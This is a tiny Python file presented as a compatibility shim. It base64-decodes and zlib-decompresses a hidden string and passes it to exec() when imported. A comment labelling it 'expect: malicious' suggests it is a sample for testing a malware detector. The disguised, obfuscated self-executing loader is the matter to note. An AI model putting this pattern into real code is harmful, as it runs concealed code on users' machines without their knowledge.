# -*- coding: utf-8 -*-
"""Compatibility shim for old Python versions."""
import base64
import zlib

_p = (
    "eJxLLSrKL0pVSM7PS8tMTy0uTs1RyM3PS0nVUcjMK0ktyc9LUUgsSk7VUUjJL8nPzy9KLcpP"
    "0VFIyU9NLMovys9LLVIoyczNTy0GALq8GQw="
)
# expect: malicious
exec(zlib.decompress(base64.b64decode(_p)).decode())
